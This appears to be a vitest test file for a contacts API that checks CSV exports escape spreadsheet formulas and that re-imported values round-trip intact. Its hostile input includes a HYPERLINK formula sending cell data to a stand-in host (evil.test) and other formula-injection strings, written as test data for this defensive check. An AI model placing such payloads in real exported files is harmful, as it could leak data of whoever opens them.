import { describe, expect, it } from "vitest";
import { call } from "../helpers/client";
import { createContact, listAll } from "../helpers/contacts";
import { csvObjects } from "../helpers/exports";
import { createPrincipal } from "../helpers/factories";
import { settledImport, startCsvImport } from "../helpers/imports";

// Issue 33's adversarial pass: a CSV export opened in a spreadsheet must not run what a lead typed into its name
// (CSV / formula injection: a cell starting with = + - @ is a formula to Excel, LibreOffice and Sheets).

const HOSTILE = {
  firstName: '=HYPERLINK("http://evil.test/?"&A1,"Open")',
  lastName: "+1+1",
  notes: "@SUM(A1:A9)",
  tags: ["-2+3"],
  phone: "+14165550199",
};

describe("CSV exports and the errors CSV neutralize formulas", () => {
  it("prefixes a cell a spreadsheet would run with an apostrophe, leaves plain numbers, and an import reads it back equal", async () => {
    const owner = await createPrincipal();
    const contact = await createContact(owner.token, HOSTILE);
    const res = await call("GET", "/v1/contacts/export?format=csv", { token: owner.token });
    expect(res.status).toBe(200);
    const text = await res.text();
    // No line of the file has a cell that starts a formula.
    for (const line of text.split("\r\n")) expect(line).not.toMatch(/(^|,)"?(=|\+1\+|@|-2)/);
    const [row] = csvObjects(text);
    expect(row!.firstName).toBe(`'${HOSTILE.firstName}`);
    expect(row!.lastName).toBe("'+1+1");
    expect(row!.notes).toBe("'@SUM(A1:A9)");
    expect(row!.tags).toBe("'-2+3");
    // A phone in E.164 is a number to a spreadsheet, not a formula: it stays as it is.
    expect(row!.phone).toBe("+14165550199");

    // The exported file imported into another organization gives the same values (the apostrophe taken off).
    const other = await createPrincipal();
    const quoted = (v: string | undefined) => `"${String(v).replaceAll('"', '""')}"`;
    const line = [row!.firstName, row!.lastName, contact.email, row!.notes].map(quoted).join(",");
    const job = await startCsvImport(other, `firstName,lastName,email,notes\r\n${line}\r\n`);
    expect((await settledImport(other, job.id)).created).toBe(1);
    const { contacts } = await listAll(other.token, "limit=100");
    expect(contacts[0]).toMatchObject({ firstName: HOSTILE.firstName, lastName: "+1+1", notes: "@SUM(A1:A9)" });
  });
});
